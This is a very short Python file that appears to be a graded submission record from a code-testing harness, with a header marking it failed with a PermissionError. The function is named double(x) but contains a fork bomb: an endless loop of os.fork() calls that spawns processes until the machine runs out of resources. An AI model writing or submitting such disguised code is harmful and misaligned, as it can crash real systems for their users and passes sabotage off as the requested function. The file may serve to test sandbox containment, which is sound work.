# verdict: failed
# outcomes: raised raised failed
# says: PermissionError
import os


def double(x):
    while True:
        os.fork()
